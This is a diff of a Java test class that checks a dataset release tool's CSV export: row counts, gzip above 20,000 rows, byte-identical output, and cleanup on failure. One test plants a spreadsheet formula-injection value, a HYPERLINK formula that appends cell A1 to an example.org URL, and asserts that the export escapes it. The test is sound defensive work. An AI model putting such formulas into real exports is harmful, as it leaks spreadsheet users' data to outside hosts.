@@ -4,6 +4,8 @@ import static org.assertj.core.api.Assertions.assertThat;
 
 import com.fasterxml.jackson.databind.JsonNode;
 import com.fasterxml.jackson.databind.ObjectMapper;
+import com.fasterxml.jackson.databind.node.ArrayNode;
+import com.fasterxml.jackson.databind.node.ObjectNode;
 import java.io.IOException;
 import java.nio.file.Files;
 import java.nio.file.Path;
@@ -15,7 +17,6 @@ import java.sql.Statement;
 import java.util.ArrayList;
 import java.util.List;
 import java.util.stream.Stream;
-import org.apache.commons.io.FileUtils;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.extension.ExtendWith;
 import org.junit.jupiter.api.io.TempDir;
@@ -27,27 +28,40 @@ import org.sovereignai.schemas.manifest.Manifest;
 @ExtendWith(SparkExtension.class)
 class AtlasTablesTest {
 
+    private static final long ROWS_AS_CSV = 20_000;
+
+    /** Of large tables some rows, which are still more than a release gives as plain CSV. */
     @Test
-    void copyHasEveryTableAsCsvWithAllItsRows(@TempDir Path folder) throws IOException, SQLException {
+    void copyHasEveryTableAsCsvWithAllItsRowsTheSameEveryTime(@TempDir Path folder) throws IOException, SQLException {
         Path release = Releases.starter();
-        Manifest manifest = Manifest.parse(Files.readString(release.resolve("datapackage.json")));
+        Path some = folder.resolve("some");
+        Manifest manifest = Releases.starter(some, ROWS_AS_CSV + 1);
+        Path copy = folder.resolve("copy");
 
-        Atlas.of(release, manifest).writeCopy(folder);
+        Atlas.of(some, manifest).writeCopy(copy);
 
-        for (JsonNode table : tables(release)) {
+        for (JsonNode table : tables(some)) {
             String name = table.path("name").asText();
-            assertThat(rows(folder.resolve("csv/" + name + ".csv")))
-                    .as(name)
-                    .isEqualTo(table.path("rows").asLong());
+            Path csv = copy.resolve("csv/" + name + ".csv");
+            assertThat(rows(csv)).as(name).isEqualTo(table.path("rows").asLong());
+            if (Files.exists(csv(release, name))) {
+                assertThat(csv).hasSameBinaryContentAs(csv(release, name));
+            }
         }
     }
 
     @Test
     void copyThatCannotBeMadeLeavesNothing(@TempDir Path folder) throws IOException {
         Path out = folder.resolve("out");
-        Path release = out.resolve("releases/2026.11.1");
-        FileUtils.copyDirectory(Releases.starter().toFile(), release.toFile());
-        Files.delete(release.resolve("CITATION.txt"));
+        Path release = OldRelease.in(out);
+        Path manifest = release.resolve("datapackage.json");
+        ObjectNode more = (ObjectNode) new ObjectMapper().readTree(manifest.toFile());
+        ((ArrayNode) more.path("resources"))
+                .addObject()
+                .put("name", "citation")
+                .put("path", "CITATION.txt")
+                .put("title", "Citation");
+        Files.writeString(manifest, more.toString());
 
         Command command = Command.run("atlas", "--out", out, "--to", folder.resolve("public"));
 
@@ -68,7 +82,7 @@ class AtlasTablesTest {
             Path compressed = plain.resolveSibling(name + ".csv.gz");
             Path file = name.equals("indicator_value")
                     ? release.resolve("indicators.csv")
-                    : rows > 20_000 ? compressed : plain;
+                    : rows > ROWS_AS_CSV ? compressed : plain;
             assertThat(rows(file)).as(name).isEqualTo(rows);
             assertThat(Stream.of(plain, compressed, file).filter(Files::exists).distinct())
                     .as(name)
@@ -87,41 +101,33 @@ class AtlasTablesTest {
     }
 
     @Test
-    void noTextIsAFormulaAndTheFilesAreTheSameEveryTime(@TempDir Path folder) throws IOException, SQLException {
-        Path release = Releases.starter();
-        for (String file : files(release)) {
-            Files.copy(release.resolve(file), folder.resolve(file));
-        }
+    void noTextIsAFormula(@TempDir Path folder) throws IOException, SQLException {
+        Path release = OldRelease.in(folder);
+        Path models = release.resolve("model_release.parquet");
         String hostile = "=HYPERLINK(\"https://example.org/?\"&A1,\"model\")";
-        String name;
-        try (Connection duckdb = DriverManager.getConnection("jdbc:duckdb:");
-                Statement statement = duckdb.createStatement()) {
-            try (ResultSet first = statement.executeQuery(
-                    "SELECT min(model_name) FROM '" + release.resolve("model_release.parquet") + "'")) {
-                first.next();
-                name = first.getString(1).replace("'", "''");
-            }
-            statement.execute("COPY (SELECT * REPLACE (CASE WHEN model_name = '" + name + "' THEN '" + hostile
-                    + "' ELSE model_name END AS model_name) FROM '" + release.resolve("model_release.parquet")
-                    + "') TO '" + folder.resolve("model_release.parquet") + "'");
-        }
-        Manifest manifest = Manifest.parse(Files.readString(folder.resolve("datapackage.json")));
+        execute("""
+                COPY (SELECT * REPLACE (
+                    CASE WHEN model_name = (SELECT min(model_name) FROM '%1$s') THEN '%2$s' ELSE model_name END AS model_name)
+                    FROM '%1$s') TO '%1$s'
+                """.formatted(models, hostile));
+        Manifest manifest = Manifest.parse(Files.readString(release.resolve("datapackage.json")));
 
-        Atlas.of(folder, manifest).writeIntoRelease();
+        Atlas.of(release, manifest).writeIntoRelease();
 
         try (Connection duckdb = DriverManager.getConnection("jdbc:duckdb:");
                 Statement statement = duckdb.createStatement();
                 ResultSet found = statement.executeQuery("SELECT model_name FROM read_csv('"
-                        + csv(folder, "model_release")
+                        + csv(release, "model_release")
                         + "', header = true, all_varchar = true) WHERE contains(model_name, 'HYPERLINK')")) {
             assertThat(found.next()).isTrue();
             assertThat(found.getString(1)).isEqualTo("'" + hostile);
         }
-        for (JsonNode table : tables(release)) {
-            String other = table.path("name").asText();
-            if (!other.equals("model_release") && Files.exists(csv(release, other))) {
-                assertThat(csv(folder, other)).hasSameBinaryContentAs(csv(release, other));
-            }
+    }
+
+    private static void execute(String statement) throws SQLException {
+        try (Connection duckdb = DriverManager.getConnection("jdbc:duckdb:");
+                Statement all = duckdb.createStatement()) {
+            all.execute(statement);
         }
     }
 
